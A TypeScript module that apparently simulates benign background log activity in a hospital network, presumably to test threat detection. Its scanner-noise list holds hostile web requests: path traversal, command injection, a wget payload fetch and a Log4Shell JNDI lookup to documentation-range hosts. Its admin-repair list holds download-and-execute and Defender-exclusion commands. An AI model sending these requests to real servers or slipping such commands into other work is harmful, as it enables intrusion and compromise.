/**
 * Software and habits as they really are: vendors that start shells, support through whatever tool
 * is at hand, administrators who repair things, private devices, and an internet that knocks.
 */
import { auditRecord, signIn } from '../logs/cloud.ts';
import { accessLine } from '../logs/network.ts';
import type { Host, Person } from '../place.ts';
import { business, moment, whereIs, works, type Hour } from './hour.ts';

const SYSTEM32 = 'C:\\Windows\\System32';
const CMD = `${SYSTEM32}\\cmd.exe`;
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const EXPLORER = 'C:\\Windows\\explorer.exe';
const SYSTEM = 'NT AUTHORITY\\SYSTEM';
const SVCHOST = `${SYSTEM32}\\svchost.exe`;

export function softwareHour(hour: Hour): void {
  privateDevices(hour);
  if (hour.place.kind === 'hospital') {
    servers(hour);
    knocking(hour);
  } else stickBackup(hour);
  const { random, place } = hour;
  const repairs = place.kind === 'hospital' ? 0.5 : 0.03;
  if (works(hour, 'office') && random.chance(repairs))
    repair(hour, random.pick(place.people('admin')));
  const scale = (place.kind === 'hospital' ? 3 : 0.08) * business(hour);
  for (let left = random.count(scale); left > 0; left -= 1) someone(hour);
}

/** Servers whose vendors call other programs, by the clock or for each document. */
function servers(hour: Hour): void {
  const { random, windows, place } = hour;
  const run = (host: Host, image: string, command: string, parent: string, user: string): void =>
    windows.process(host, moment(hour), { image, command, parent, user, high: true });
  const java = 'D:\\EHR\\jre\\bin\\java.exe';
  run(place.of('ehr'), CMD, 'cmd.exe /c D:\\EHR\\bin\\export-hl7.cmd', java, SYSTEM);
  for (let left = random.count(2 * business(hour)); left > 0; left -= 1) {
    const worker = `${SYSTEM32}\\inetsrv\\w3wp.exe`;
    const convert = `cmd.exe /c "C:\\inetpub\\tools\\wkhtmltopdf.exe" letter-${random.between(1, 9_999)}.html out.pdf`;
    run(place.of('portal'), CMD, convert, worker, 'IIS APPPOOL\\Portal');
  }
  if (hour.hour === 23) {
    const sql = 'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.EHR\\MSSQL\\Binn\\sqlservr.exe';
    run(
      place.of('database'),
      CMD,
      'cmd.exe /c copy D:\\Dump\\ehr.bak \\\\BKP01\\dumps',
      sql,
      'NT SERVICE\\MSSQL$EHR',
    );
  }
  if (hour.hour === 4 && hour.day % 7 === 2)
    run(
      place.of('dc'),
      `${SYSTEM32}\\ntdsutil.exe`,
      'ntdsutil "ac i ntds" "ifm" "create full D:\\IFM" q q',
      CMD,
      SYSTEM,
    );
  for (const host of place.workstations) {
    if (host.ward !== 'LAB' || !random.chance(0.1)) continue;
    const agent = 'C:\\ProgramData\\LabLink\\agent.exe';
    run(host, agent, `"${agent}" --poll COM${random.between(1, 8)}`, SVCHOST, SYSTEM);
    if (random.chance(0.02)) {
      const update = 'C:\\Users\\Public\\LabLink\\update.exe';
      windows.file(host, moment(hour), agent, SYSTEM, update);
      run(host, update, `"${update}" /silent`, agent, SYSTEM);
    }
  }
}

/** Every public web server hears these all day; they come to nothing. */
function knocking(hour: Hour): void {
  const { random, tape, place } = hour;
  const host = place.all('linux')[1];
  if (host === undefined) return;
  const requests = [
    'GET /../../../../etc/passwd HTTP/1.1',
    'GET /index.php?cmd=id HTTP/1.1',
    'GET /shell?cd+/tmp;wget+http://203.0.113.200/mips HTTP/1.1',
    'GET /?x=${jndi:ldap://203.0.113.201/a} HTTP/1.1',
    'GET /.env HTTP/1.1',
    'GET /vendor/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1',
    'POST /cgi-bin/luci/;stok=/locale HTTP/1.1',
    'GET /.git/config HTTP/1.1',
  ];
  for (let left = random.count(5); left > 0; left -= 1)
    accessLine(
      tape,
      moment(hour),
      host,
      `203.0.113.${random.between(2, 250)}`,
      random.pick(requests),
      404,
      'Mozilla/5.0',
    );
}

/** Mail is read on private telephones and computers, and on holiday. */
function privateDevices(hour: Hour): void {
  const { random, tape, place } = hour;
  const mean =
    (place.kind === 'hospital' ? 20 : 0.4) * (hour.hour >= 6 && hour.hour < 23 ? 1 : 0.1);
  for (let left = random.count(mean); left > 0; left -= 1) {
    const person = random.pick(place.staff);
    const where = whereIs(hour, person);
    const abroad = where.country !== 'HU';
    signIn(tape, random, moment(hour), {
      person,
      from: `198.51.100.${random.between(2, 250)}`,
      ...where,
      compliant: false,
      app: random.pick(['Outlook Mobile', 'Office 365 Exchange Online', 'Microsoft Teams']),
      clientApp: random.pick(['Mobile Apps and Desktop clients', 'Browser']),
      agent: random.pick(['Mobile Safari 18.1', 'Chrome Mobile 131', 'Firefox 133.0']),
      risk: random.chance(abroad ? 0.1 : 0.001) ? 'medium' : 'none',
      ...(random.chance(0.05) ? { error: 50_076 } : {}),
    });
  }
}

/** A practice copies its database to a stick every Friday. */
function stickBackup(hour: Hour): void {
  const { random, windows, place } = hour;
  if (hour.day % 7 !== 4 || hour.hour !== 16) return;
  const [host] = place.workstations;
  const [person] = place.people('clerk');
  if (host === undefined || person === undefined) return;
  const user = `${place.domain}\\${person.account}`;
  const at = moment(hour);
  windows.security(host, at, 6416, {
    SubjectUserName: `${host.name}$`,
    SubjectDomainName: place.domain,
    DeviceId: 'USBSTOR\\Disk&Ven_WD&Prod_Elements\\5758',
    DeviceDescription: 'WD Elements USB Device',
    ClassName: 'DiskDrive',
  });
  const robocopy = `${SYSTEM32}\\robocopy.exe`;
  windows.process(host, at + 9_000, {
    image: robocopy,
    command: 'robocopy \\\\SRV\\Praxis E:\\Praxis /MIR',
    parent: CMD,
    user,
  });
  for (let count = 0; count < 40; count += 1)
    windows.removable(
      host,
      at + 10_000 + count * 700,
      robocopy,
      user,
      `E:\\Praxis\\db${random.between(1, 9_999)}.dat`,
    );
}

type Repair = readonly [command: string, script: string | null];

/** What administrators type when something must work again today. */
const REPAIRS: readonly Repair[] = [
  [
    'C:\\Tools\\Sysinternals\\procdump64.exe -accepteula -ma MedCare.exe C:\\Temp\\medcare.dmp',
    null,
  ],
  ['certutil.exe -hashfile C:\\Temp\\setup.exe SHA256', null],
  ['certutil.exe -addstore Root C:\\Temp\\ca.cer', null],
  [
    'bitsadmin.exe /transfer drivers https://vendor.example/printer.zip C:\\Temp\\printer.zip',
    null,
  ],
  ['netsh.exe trace start capture=yes tracefile=C:\\Temp\\net.etl', null],
  ['reg.exe save HKLM\\SOFTWARE\\MedCare C:\\Temp\\medcare.hiv /y', null],
  ['wevtutil.exe epl Application C:\\Temp\\app.evtx', null],
  ['sc.exe config Spooler start= disabled', null],
  ['net.exe localgroup administrators ward-it /add', null],
  [
    'schtasks.exe /create /tn Cleanup /tr C:\\Scripts\\cleanup.cmd /sc daily /st 03:00 /ru SYSTEM',
    null,
  ],
  ['curl.exe -L -o C:\\Temp\\agent.msi https://vendor.example/agent.msi', null],
  ['taskkill.exe /F /IM MedCare.exe', null],
  ['icacls.exe D:\\Shares\\Wards /grant ward-staff:(OI)(CI)M /T', null],
  ['nltest.exe /domain_trusts', null],
  ['cmdkey.exe /list', null],
  ['powershell.exe', "Add-MpPreference -ExclusionPath 'C:\\Program Files (x86)\\MedCare'"],
  [
    'powershell.exe',
    "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
  ],
  ['powershell.exe', 'Get-ADGroupMember "Domain Admins" -Recursive | Select-Object SamAccountName'],
  [
    'powershell.exe',
    'Get-MessageTrace -SenderAddress news@publisher.example; Connect-ExchangeOnline',
  ],
  [
    'powershell.exe',
    'Invoke-Command -ComputerName FS01 -ScriptBlock { Get-SmbOpenFile | Close-SmbOpenFile -Force }',
  ],
  [
    'powershell.exe -w hidden -File C:\\Scripts\\inventory.ps1',
    'Get-CimInstance Win32_LogicalDisk | Export-Csv \\\\FS01\\it\\disks.csv',
  ],
];

function repair(hour: Hour, admin: Person): void {
  const { random, windows, place } = hour;
  const [command, script] = random.pick(REPAIRS);
  const hosts = place.hosts.filter((host) => host.role !== 'linux' && host.role !== 'firewall');
  const host = random.pick(hosts);
  const name = command.split(' ')[0] ?? 'cmd.exe';
  const image = name.includes('\\')
    ? name
    : name === 'powershell.exe'
      ? POWERSHELL
      : `${SYSTEM32}\\${name}`;
  const user = `${place.domain}\\${admin.account}`;
  const at = moment(hour);
  windows.process(host, at, { image, command, parent: CMD, user, high: true });
  if (script !== null) windows.script(host, at + 2_000, script);
}

/** Someone of the staff does what someone always does. */
function someone(hour: Hour): void {
  const { random, windows, place, tape } = hour;
  const host = random.pick(place.workstations);
  const person = random.pick(place.staff);
  const user = `${place.domain}\\${person.account}`;
  const home = `C:\\Users\\${person.account}`;
  const at = moment(hour);
  const start = (image: string, command: string = `"${image}"`, parent: string = EXPLORER): void =>
    windows.process(host, at, { image, command, parent, user });
  const kind = random.between(0, 9);
  if (kind === 0) start(`${home}\\Downloads\\TeamViewerQS.exe`);
  if (kind === 1) start(`${home}\\Downloads\\AnyDesk.exe`);
  if (kind === 2) start(`${home}\\AppData\\Local\\Temp\\7zS4A\\setup.exe`);
  if (kind === 3) {
    const key =
      'HKU\\S-1-5-21-1-2-3-1301\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Spotify';
    windows.registry(
      host,
      at,
      `${home}\\AppData\\Roaming\\Spotify\\Spotify.exe`,
      user,
      key,
      `${home}\\AppData\\Roaming\\Spotify\\Spotify.exe`,
    );
  }
  if (kind === 4)
    start(`${home}\\AppData\\Local\\Dropbox\\Update\\DropboxUpdate.exe`, undefined, SVCHOST);
  if (kind === 5) start(CMD, `cmd.exe /c "\\\\FS01\\Wards\\start-roster.bat"`);
  if (kind === 6)
    start(
      'C:\\Program Files\\7-Zip\\7zG.exe',
      `"C:\\Program Files\\7-Zip\\7zG.exe" a -pGeheim1 -- ${home}\\Desktop\\letters.7z ${home}\\Desktop\\letters`,
    );
  if (kind === 7)
    windows.file(
      host,
      at,
      EXPLORER,
      user,
      `${home}\\Downloads\\invoice-${random.between(1, 999)}.iso`,
    );
  if (kind === 8) {
    auditRecord(tape, random, at, 'Exchange', 'New-InboxRule', person.mail, '198.51.100.14', {
      ObjectId: `${person.mail}\\Ads`,
      Parameters: [
        { Name: 'Name', Value: random.pick(['Ads', 'Weg', 'Pub', 'a']) },
        { Name: 'SubjectContainsWords', Value: 'newsletter;offer' },
        { Name: 'DeleteMessage', Value: 'True' },
      ],
    });
  }
  if (kind === 9) {
    auditRecord(
      tape,
      random,
      at,
      'OneDrive',
      'AnonymousLinkCreated',
      person.mail,
      '198.51.100.15',
      {
        ObjectId: `https://docs.${place.dns}/personal/roster.xlsx`,
      },
    );
  }
}
